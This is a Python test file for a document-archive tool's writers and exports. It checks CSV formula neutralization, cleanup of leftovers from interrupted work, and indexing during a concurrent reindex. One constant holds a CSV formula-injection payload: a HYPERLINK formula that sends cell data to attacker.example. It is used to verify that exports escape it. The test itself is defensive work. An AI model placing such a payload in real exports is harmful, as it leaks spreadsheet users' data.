"""What the adversarial pass found about writers and exports: CSV cells a spreadsheet
evaluates (titles and file names starting with = + - @) were exported raw; leftovers of
interrupted work (``.*.tmp`` files, a half-built ``index.new/`` that kept a full disk full,
restore copies of a dead process) were never removed (both tests fail on the code before the
fix); and an import that ran while ``reindex`` rebuilt the index left its items stored but
unindexed (300 of 300) while ``verify`` said OK. That race is narrower than a process start,
so its test is a guard of the outcome (every item indexed, verify OK), not a reproduction."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time

from click.testing import CliRunner

from eurasec_archive.app import create_app
from eurasec_archive.archive import Archive
from eurasec_archive.cli import main

FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def cli(root, *args, env=None, timeout=600):
    return subprocess.run([sys.executable, "-m", "eurasec_archive", "--archive-dir", str(root), *args],
                          capture_output=True, text=True, timeout=timeout, env={**os.environ, **(env or {})})


def write_doc(folder, name: str, title: str, n: int = 0):
    body = (f"Delegations met in Minsk on day {n} to discuss Eurasian security and the Charter. "
            f"The talks, number {n}, continued late into the evening.")
    (folder / name).write_text(f" date 2025-03-{1 + n % 28:02d} news.by\n\n{title}\n\n{body}\n", "utf-8")


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralized(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    write_doc(docs, "@report.txt", FORMULA_TITLE)
    root = tmp_path / "archive"
    assert cli(root, "import", str(docs)).returncode == 0
    web = create_app({"ARCHIVE_DIR": str(root)}).test_client().get("/api/search?q=&format=csv")
    shell = CliRunner().invoke(main, ["--archive-dir", str(root), "export", "--format", "csv"])
    assert shell.exit_code == 0, shell.output
    for text in (web.get_data(as_text=True), shell.output):
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert len(rows) == 1
        assert rows[0]["title"] == "'" + FORMULA_TITLE
        assert rows[0]["source_filename"] == "'@report.txt"
        evaluated = [k for k, v in rows[0].items() if v and v[0] in "=+-@\t\r"]
        assert evaluated == []


def test_the_next_writer_removes_what_interrupted_work_left(seeded):
    root = seeded.root
    leftovers = [root / "items" / ".some-item.json.1234.tmp", root / ".redirects.json.99.tmp",
                 root / "index.new" / "_MAIN_1.toc"]
    for path in leftovers:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(b"\0" * 4096)
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"],
                          capture_output=True, text=True, check=True).stdout.strip()
    restore_copy = root.parent / f".{root.name}.restore-{dead}"
    (restore_copy / "items").mkdir(parents=True)
    live = root.parent / f".{root.name}.restore-{os.getpid()}"  # a restore still running: kept
    live.mkdir()
    result = cli(root, "reindex")
    assert result.returncode == 0, result.stderr
    assert [p for p in leftovers if p.exists()] == []
    assert not (root / "index.new").exists()
    assert not restore_copy.exists()
    assert live.exists()
    assert cli(root, "verify").returncode == 0


def test_an_import_while_reindex_runs_is_indexed_and_verify_agrees(tmp_path):
    root = tmp_path / "archive"
    first, second = tmp_path / "first", tmp_path / "second"
    first.mkdir()
    second.mkdir()
    for n in range(150):
        write_doc(first, f"a{n:03d}.txt", f"First batch report {n} on the Eurasian Charter", n)
    for n in range(20):
        write_doc(second, f"b{n:03d}.txt", f"Second batch report {n} on the Minsk conference", n)
    assert cli(root, "import", "--jobs", "2", str(first)).returncode == 0
    env = {"EURASEC_LOCK_WAIT": "300"}
    reindex = subprocess.Popen([sys.executable, "-m", "eurasec_archive", "--archive-dir", str(root), "reindex"],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                               env={**os.environ, **env})
    deadline = time.monotonic() + 120
    while not (root / "index.new").exists() and reindex.poll() is None and time.monotonic() < deadline:
        time.sleep(0.02)  # the import starts while the new index is being built
    imported = cli(root, "import", str(second), env=env)
    out, err = reindex.communicate(timeout=600)
    assert reindex.returncode == 0, err
    assert imported.returncode == 0, imported.stderr
    found = json.loads(cli(root, "search", "--json", "--limit", "1", "").stdout)["total"]
    assert found == len(Archive(root).item_ids()) == 170
    verify = cli(root, "verify")
    assert verify.returncode == 0, verify.stdout
